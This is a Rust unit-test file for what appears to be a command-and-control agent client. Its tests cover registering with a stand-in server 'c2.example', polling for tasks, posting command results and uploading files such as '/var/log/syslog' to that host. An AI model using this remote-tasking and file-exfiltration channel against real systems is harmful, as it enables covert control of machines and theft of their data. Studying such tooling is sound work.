use horizon_client::config::Config;
use horizon_client::error::AgentError;
use horizon_client::task::{ObjectId, PollResponse};
use horizon_client::transport::{
    command_result_outcome, execute_command, is_success, ping, poll_outcome, register,
    registration_outcome, upload_file, upload_outcome, Content, Method, Payload, Reply,
    SERVER_KEY_HEADER, UPLOAD_PART,
};

fn config() -> Config {
    Config { server_url: "http://c2.example:8080".to_string(), server_key: "s3cr3t".to_string() }
}

fn id(last: u8) -> ObjectId {
    ObjectId::from_bytes([0x63, 0xce, 0xef, 0xfd, 0x37, 0x51, 0x82, 0x21, 0xcd, 0xc6, 0xcd, last])
}

fn answer(status: u16, text: &str) -> Reply {
    Reply::Answer { status, content: Content::Text(text.to_string()) }
}

#[test]
fn register_posts_identity_with_key_and_without_credential() {
    let request = register(&config());
    assert_eq!(request.method, Method::Post);
    assert_eq!(request.url, "http://c2.example:8080/client/register");
    assert_eq!(request.server_key, "s3cr3t");
    assert_eq!(request.bearer, None);
    assert_eq!(
        request.payload,
        Payload::Registration {
            guid: "some-unique-guid".to_string(),
            agent: "horizon-client-rust".to_string(),
        }
    );
}

#[test]
fn ping_gets_with_key_and_credential() {
    let request = ping(&config(), "tok.en");
    assert_eq!(request.method, Method::Get);
    assert_eq!(request.url, "http://c2.example:8080/client/ping");
    assert_eq!(request.server_key, "s3cr3t");
    assert_eq!(request.bearer, Some("tok.en".to_string()));
    assert_eq!(request.payload, Payload::Empty);
}

#[test]
fn upload_file_posts_the_content_named_after_the_source() {
    let request = upload_file(&config(), "tok", id(0xa2), "/var/log/syslog", vec![1, 2, 3, 255]);
    assert_eq!(request.method, Method::Post);
    assert_eq!(
        request.url,
        "http://c2.example:8080/client/upload/result/63ceeffd37518221cdc6cda2"
    );
    assert_eq!(request.server_key, "s3cr3t");
    assert_eq!(request.bearer, Some("tok".to_string()));
    assert_eq!(
        request.payload,
        Payload::File {
            part: "file".to_string(),
            file_name: "/var/log/syslog".to_string(),
            content: vec![1, 2, 3, 255],
        }
    );
}

#[test]
fn upload_file_keeps_an_empty_file() {
    let request = upload_file(&config(), "tok", id(0), "empty", Vec::new());
    assert_eq!(
        request.payload,
        Payload::File { part: UPLOAD_PART.to_string(), file_name: "empty".to_string(), content: vec![] }
    );
}

#[test]
fn execute_command_posts_the_result_text() {
    let request = execute_command(&config(), "tok", id(0x0f), "ok\n");
    assert_eq!(request.method, Method::Post);
    assert_eq!(
        request.url,
        "http://c2.example:8080/client/commands/result/63ceeffd37518221cdc6cd0f"
    );
    assert_eq!(request.server_key, "s3cr3t");
    assert_eq!(request.bearer, Some("tok".to_string()));
    assert_eq!(request.payload, Payload::CommandResult { result: "ok\n".to_string() });
}

#[test]
fn identifier_is_written_as_lower_case_hex_digits() {
    let all = ObjectId::from_bytes([0x00, 0x01, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef, 0xf0, 0x0f, 0xff]);
    let request = execute_command(&config(), "t", all, "");
    assert_eq!(
        request.url,
        "http://c2.example:8080/client/commands/result/000123456789abcdeff00fff"
    );
}

#[test]
fn identifier_is_written_as_bson_writes_it() {
    let parsed = bson::oid::ObjectId::parse_str("507f1f77bcf86cd799439011").unwrap();
    let request = upload_file(&config(), "t", ObjectId::from_bytes(parsed.bytes()), "f", vec![]);
    assert_eq!(
        request.url,
        format!("http://c2.example:8080/client/upload/result/{}", parsed)
    );
    assert!(request.url.ends_with("/507f1f77bcf86cd799439011"));
}

#[test]
fn server_key_header_name() {
    assert_eq!(SERVER_KEY_HEADER, "X-Server-Key");
}

#[test]
fn success_is_a_code_from_200_to_299() {
    assert!(is_success(200));
    assert!(is_success(204));
    assert!(is_success(299));
    assert!(!is_success(199));
    assert!(!is_success(300));
    assert!(!is_success(404));
    assert!(!is_success(500));
}

#[test]
fn codes_that_are_no_status_are_no_success() {
    assert!(!is_success(0));
    assert!(!is_success(99));
    assert!(!is_success(1000));
    assert!(!is_success(u16::MAX));
}

#[test]
fn registration_yields_the_token() {
    let reply = Reply::Answer { status: 200, content: Content::Token("jwt".to_string()) };
    assert_eq!(registration_outcome(reply), Ok("jwt".to_string()));
}

#[test]
fn registration_rejected_keeps_the_body() {
    assert_eq!(
        registration_outcome(answer(403, "bad key")),
        Err(AgentError::RegistrationRejected("bad key".to_string()))
    );
}

#[test]
fn registration_rejected_even_with_a_token() {
    let reply = Reply::Answer { status: 401, content: Content::Token("jwt".to_string()) };
    assert_eq!(registration_outcome(reply), Err(AgentError::RegistrationRejected(String::new())));
}

#[test]
fn registration_without_answer_is_a_transport_error() {
    assert_eq!(registration_outcome(Reply::NoAnswer), Err(AgentError::Transport));
}

#[test]
fn registration_without_token_is_a_transport_error() {
    assert_eq!(registration_outcome(answer(200, "{}")), Err(AgentError::Transport));
}

#[test]
fn poll_yields_the_tasks() {
    let tasks = PollResponse { pending_uploads: vec![], pending_commands: vec![] };
    let reply = Reply::Answer { status: 200, content: Content::Tasks(tasks.clone()) };
    assert_eq!(poll_outcome(reply), Ok(tasks));
}

#[test]
fn poll_rejected_keeps_the_body() {
    assert_eq!(
        poll_outcome(answer(401, "token revoked")),
        Err(AgentError::PollRejected("token revoked".to_string()))
    );
}

#[test]
fn poll_without_answer_is_a_transport_error() {
    assert_eq!(poll_outcome(Reply::NoAnswer), Err(AgentError::Transport));
}

#[test]
fn poll_without_tasks_is_a_transport_error() {
    assert_eq!(poll_outcome(answer(200, "<html>")), Err(AgentError::Transport));
}

#[test]
fn upload_accepted_whatever_the_body() {
    assert_eq!(upload_outcome(answer(200, "")), Ok(()));
    assert_eq!(upload_outcome(answer(201, "created")), Ok(()));
}

#[test]
fn upload_rejected_keeps_the_body() {
    assert_eq!(
        upload_outcome(answer(413, "too large")),
        Err(AgentError::UploadRejected("too large".to_string()))
    );
}

#[test]
fn upload_without_answer_is_a_transport_error() {
    assert_eq!(upload_outcome(Reply::NoAnswer), Err(AgentError::Transport));
}

#[test]
fn command_result_accepted_whatever_the_body() {
    assert_eq!(command_result_outcome(answer(200, "")), Ok(()));
}

#[test]
fn command_result_rejected_keeps_the_body() {
    assert_eq!(
        command_result_outcome(answer(500, "boom")),
        Err(AgentError::CommandReportRejected("boom".to_string()))
    );
}

#[test]
fn command_result_without_answer_is_a_transport_error() {
    assert_eq!(command_result_outcome(Reply::NoAnswer), Err(AgentError::Transport));
}

#[test]
fn content_text_is_empty_for_a_decoded_body() {
    assert_eq!(Content::Text("abc".to_string()).into_text(), "abc");
    assert_eq!(Content::Token("abc".to_string()).into_text(), "");
}
